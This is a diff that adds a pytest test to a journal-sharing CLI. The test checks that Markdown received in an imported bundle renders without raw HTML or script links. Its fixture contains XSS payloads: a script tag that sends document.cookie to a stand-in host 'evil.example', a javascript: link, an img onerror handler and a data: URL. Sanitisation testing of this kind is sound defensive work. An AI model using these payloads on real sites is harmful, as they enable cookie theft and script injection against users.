@@ -16,14 +16,17 @@ import zlib
 from collections.abc import Callable
 from pathlib import Path
 
+import cmarkgfm  # type: ignore[import-untyped]
 import pyrage
 import pytest
+from cmarkgfm.cmark import Options  # type: ignore[import-untyped]
 
 from reflectdesk.bundles import BundleKind, BundleMeta, Identity
 from reflectdesk.bundles.age_pyrage import BACKEND_ENV
 from reflectdesk.bundles.manifest import FileRecord, RecipientRecord, new_manifest
 from reflectdesk.services.vault import Vault
 from tests.bundles.helpers import need_tool, resign
+from tests.rendering.html_audit import audit
 from tests.services.test_bundles import table_digest
 from tests.support import PASSPHRASE, CliResult, cli_env
 
@@ -462,3 +465,32 @@ def test_the_pyrage_fallback_is_one_switch_away(
     r = cli("bundle", "inspect", str(bundle), env={"REFLECTDESK_HOME": str(mentor.home),
                                                    BACKEND_ENV: "rage"})  # fmt: skip
     assert r.code == 6 and BACKEND_ENV in r.err
+
+
+def test_received_markdown_shows_no_raw_html_or_script_links(
+    student: Person, mentor: Person, tmp_path: Path
+) -> None:
+    """``entry show --format md`` of a received entry is safe to open in any viewer."""
+    give_card(mentor, student, tmp_path)
+    give_card(student, mentor, tmp_path)
+    journal = student.ok("journal", "create", "Práctica").strip()
+    hostile = (
+        "Hola <script>fetch('https://evil.example/?'+document.cookie)</script>\n\n"
+        "[mi planificación](javascript:alert(document.domain)) y "
+        "![](https://tracker.example/visto.png) y <img src=x onerror=alert(1)>\n\n"
+        "[ref]\n\n[ref]: data:text/html;base64,PHNjcmlwdD4=\n\n"
+        "[la pauta](https://www.mineduc.cl/) ![foto](attachment:01a2-b3)"
+    )
+    entry = student.ok("entry", "add", "--journal", journal, "--title", "Clase",
+                       "--section", f"body={hostile}").strip()  # fmt: skip
+    bundle = student.ok("bundle", "export", "--to", "Ana Mentor", "--entries", entry,
+                        "-o", str(tmp_path)).strip().splitlines()[-1]  # fmt: skip
+    mentor.ok("bundle", "import", bundle, "--yes")
+    markdown = mentor.ok("entry", "show", entry, "--format", "md")
+    shown = cmarkgfm.markdown_to_html_with_extensions(
+        markdown, options=Options.CMARK_OPT_UNSAFE, extensions=["table", "autolink"]
+    )  # what a permissive Markdown viewer makes of it
+    assert audit(shown) == [], shown
+    assert "\\<script>" in markdown and "javascript:alert(document.domain)" in markdown  # as text
+    assert '<a href="https://www.mineduc.cl/">la pauta</a>' in shown
+    assert '<img src="attachment:01a2-b3" alt="foto" />' in shown
